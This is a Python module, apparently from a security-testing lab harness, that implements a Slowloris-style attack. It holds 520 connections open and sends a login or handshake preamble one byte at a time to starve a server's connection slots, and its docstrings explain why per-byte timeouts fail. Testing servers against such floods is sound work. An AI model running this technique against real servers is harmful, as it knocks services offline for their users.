"""Logins that come a byte at a time.

python -m attacks.slow_logins --stage 1
"""

import asyncio
import contextlib
import socket

from attacks import Claim, Foothold, Goal, attack
from attacks.floods import client_hello, held, until_over

NUMBER = 520
SECONDS_A_BYTE = 0.25


@attack(
    position="outsider",
    family="dos",
    goals=(Goal("places", "take every place, and never be silent", "starved", "HHHHH", ablation="limits=off"),),
)
async def slow_logins(foothold: Foothold, goal: Goal) -> Claim:
    """Many servers end a connection that has been silent for a while. So Mallory is not silent: on each of five hundred
    connections she begins as everybody does, and sends one byte, and a little later the next. (The tool that made this
    known is called Slowloris.) A time-out that begins anew with every byte never ends; one that counts from the
    beginning does.
    """
    await foothold.until("talking")
    beginning = client_hello() if foothold.stage.wants_authority else b'{"type":"'
    async with held(foothold, NUMBER) as connections:
        foothold.note(f"{len(connections)} connections stand, and each says a byte every {SECONDS_A_BYTE:g} s")
        said = await until_over(foothold, drip(connections, beginning))
    return Claim(did=f"held {len(connections)} connections with a byte every {SECONDS_A_BYTE:g} s, {said} in all")


async def drip(connections: list[socket.socket], beginning: bytes) -> int:
    """A byte on each, then a pause, until the beginning is said: the pause is the attack. Returns how many it were."""
    said = 0
    with contextlib.suppress(asyncio.CancelledError):
        for place in range(len(beginning)):
            for sock in connections:
                with contextlib.suppress(OSError):  # that one was cut
                    said += sock.send(beginning[place : place + 1])
            await asyncio.sleep(SECONDS_A_BYTE)
    return said


if __name__ == "__main__":
    from lab.attack_main import main

    main("slow_logins")
